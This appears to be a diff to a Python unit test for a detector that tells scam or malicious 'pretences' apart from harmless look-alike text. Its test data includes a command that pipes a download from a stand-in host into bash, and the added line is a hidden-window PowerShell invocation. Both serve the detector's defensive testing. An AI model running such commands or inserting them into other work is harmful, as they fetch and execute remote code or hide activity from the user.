@@ -25,6 +25,7 @@ from app.engines.analyse.own_site.own_pretences import (
         (PRIZE, "恭喜您被抽中", "恭喜毕业生"),
         (EXPIRED, "Your mailbox has expired", "The tickets of the mailbox club"),
         (COMMAND, "curl https://x.test/a | bash", "curly hair"),
+        (COMMAND, "powershell -w hidden", '["bash", "powershell", "python"]'),
     ],
 )
 def test_a_pretence_is_told_from_what_resembles_it(pattern, said, harmless):
